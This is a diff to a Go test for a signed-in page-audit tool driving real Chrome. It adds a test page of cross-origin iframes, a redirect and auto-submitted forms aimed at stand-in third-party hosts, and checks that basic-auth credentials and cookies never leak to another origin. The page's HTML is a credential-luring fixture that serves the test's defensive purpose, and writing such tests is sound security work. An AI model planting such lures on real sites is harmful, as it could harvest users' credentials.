@@ -33,13 +33,17 @@ const (
 // (else 403), /form/members the session the login form gives (else a redirect to the form). A members page's largest text, its LCP
 // element, says "Members only"; it loads a script and an image from a third party and an
 // image from a subdomain of its own host. The login page says "Please sign in".
+// /basic/hostile is a basic auth members page that attacks the origin rule (issue 44): frames
+// of a third party and of another port of the site's host that ask for basic auth, a frame of
+// the site that redirects to the third party, which asks, and forms posted off-origin to both,
+// which ask too.
 type membersSite struct {
 	mu       sync.Mutex
 	sessions map[string]bool // sessions the login form gave, until revoked
 }
 
 func (m *membersSite) ServeHTTP(w http.ResponseWriter, r *http.Request) {
-	page := func(status int, title, heading string) {
+	page := func(status int, title, heading string, more ...string) {
 		w.Header().Set("Content-Type", "text/html; charset=utf-8")
 		w.WriteHeader(status)
 		fmt.Fprintf(w, `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>%s</title>
@@ -49,7 +53,7 @@ func (m *membersSite) ServeHTTP(w http.ResponseWriter, r *http.Request) {
 <img src="http://cdn.thirdparty.test/pixel.png" alt="" width="8" height="8">
 <img src="http://static.members.test/pixel.png" alt="" width="8" height="8">
 <img src="http://cdn.thirdparty.test/challenge.png" alt="" width="8" height="8">
-</body></html>`, title, heading)
+%s</body></html>`, title, heading, strings.Join(more, ""))
 	}
 	members := func() { page(200, "Members", "Members only: the quarterly numbers, for members of the club") }
 	toLogin := func() { http.Redirect(w, r, "/login", http.StatusFound) }
@@ -62,6 +66,15 @@ func (m *membersSite) ServeHTTP(w http.ResponseWriter, r *http.Request) {
 		}
 		w.Header().Set("WWW-Authenticate", `Basic realm="members"`)
 		page(401, "Sign in", "Please sign in")
+	case "/basic/hostile":
+		if u, p, ok := r.BasicAuth(); !ok || u != basicUser || subtle.ConstantTimeCompare([]byte(p), []byte(basicPassword)) != 1 {
+			w.Header().Set("WWW-Authenticate", `Basic realm="members"`)
+			page(401, "Sign in", "Please sign in")
+			return
+		}
+		page(200, "Members", "Members only: the quarterly numbers, for members of the club", hostileFrames)
+	case "/basic/away": // a redirect from the site to another origin
+		http.Redirect(w, r, "http://cdn.thirdparty.test/after-redirect", http.StatusFound)
 	case "/cookies/members":
 		if c, err := r.Cookie("session"); err == nil && c.Value == pastedCookie {
 			members()
@@ -105,6 +118,17 @@ func (m *membersSite) ServeHTTP(w http.ResponseWriter, r *http.Request) {
 	}
 }
 
+// hostileFrames are /basic/hostile's attacks on the origin rule: each asks for basic auth from
+// another origin than the site's, by a frame, a redirect or an off-origin form.
+const hostileFrames = `<iframe src="http://cdn.thirdparty.test/frame" width="40" height="20"></iframe>
+<iframe src="http://members.test:8081/frame" width="40" height="20"></iframe>
+<iframe src="/basic/away" width="40" height="20"></iframe>
+<iframe name="sink1" width="40" height="20"></iframe><iframe name="sink2" width="40" height="20"></iframe>
+<form id="f1" method="post" action="http://cdn.thirdparty.test/collect" target="sink1"><input type="hidden" name="q" value="1"></form>
+<form id="f2" method="post" action="http://members.test:8081/collect" target="sink2"><input type="hidden" name="q" value="2"></form>
+<script>document.getElementById("f1").submit(); document.getElementById("f2").submit();</script>
+`
+
 func (m *membersSite) live(sid string) bool {
 	m.mu.Lock()
 	defer m.mu.Unlock()
@@ -133,7 +157,7 @@ func (t *thirdParty) ServeHTTP(w http.ResponseWriter, r *http.Request) {
 	case "/widget.js":
 		w.Header().Set("Content-Type", "text/javascript")
 		fmt.Fprint(w, `document.title = document.title;`)
-	case "/challenge.png":
+	case "/challenge.png", "/frame", "/after-redirect", "/collect":
 		w.Header().Set("WWW-Authenticate", `Basic realm="widget"`)
 		http.Error(w, "sign in", http.StatusUnauthorized)
 	default:
@@ -170,7 +194,8 @@ func TestSignedInAuditsRealChrome(t *testing.T) {
 	// Made-up hosts, so that the third party is another host (cookies are scoped by host, not
 	// port): the proxy and the login form dial them on the local servers.
 	hosts := map[string]string{"members.test:80": siteSrv.Listener.Addr().String(),
-		"cdn.thirdparty.test:80": thirdSrv.Listener.Addr().String(), "static.members.test:80": thirdSrv.Listener.Addr().String()}
+		"cdn.thirdparty.test:80": thirdSrv.Listener.Addr().String(), "static.members.test:80": thirdSrv.Listener.Addr().String(),
+		"members.test:8081": thirdSrv.Listener.Addr().String()} // another port of the site's host is another origin
 	dial := func(ctx context.Context, network, address string) (net.Conn, error) {
 		to, ok := hosts[address]
 		if !ok {
@@ -233,6 +258,33 @@ func TestSignedInAuditsRealChrome(t *testing.T) {
 		if !regexp.MustCompile(`signed_in=basic auth_answered=[1-9]\d* auth_refused=0`).MatchString(logs.String()) {
 			t.Errorf("log: want the run's line to count the site's challenge answered and none refused:\n%s", logs.String())
 		}
+	})
+	t.Run("basic auth goes to no other origin: frames, a redirect, another port, off-origin forms", func(t *testing.T) {
+		s, err := l.SignIn(ctx, origin, store.Access{Kind: store.AccessBasic, Username: basicUser, Password: basicPassword})
+		if err != nil {
+			t.Fatalf("sign-in: %v", err)
+		}
+		r, err := s.Audit(ctx, origin+"/basic/hostile", store.StrategyDesktop)
+		if err != nil {
+			t.Fatalf("signed-in audit: %v\nlog:\n%s", err, logs.String())
+		}
+		if lcp := lcpOf(t, r); !strings.Contains(lcp, "Members only") {
+			t.Errorf("LCP element %q: want the members-only heading", lcp)
+		}
+		seen := strings.Join(third.requests(), "\n")
+		// Each attack reached the third party (so it ran), and none carried a credential.
+		for _, asked := range []string{"cdn.thirdparty.test/frame ", "members.test:8081/frame ", "cdn.thirdparty.test/after-redirect ",
+			"cdn.thirdparty.test/collect ", "members.test:8081/collect ", "cdn.thirdparty.test/challenge.png "} {
+			if !strings.Contains(seen, asked) {
+				t.Errorf("the attack %s never reached the third party:\n%s", strings.TrimSpace(asked), seen)
+			}
+		}
+		for _, line := range strings.Split(seen, "\n") {
+			if !strings.HasSuffix(line, `cookie="" authorization=""`) {
+				t.Errorf("the third party received credentials: %s", line)
+			}
+		}
+		t.Logf("third-party requests:\n%s", seen)
 	})
 	t.Run("a pasted cookie goes to the site's host only", func(t *testing.T) {
 		signedIn(t, store.Access{Kind: store.AccessCookies, Cookies: []store.NameValue{{Name: "session", Value: pastedCookie}}}, "/cookies/members")
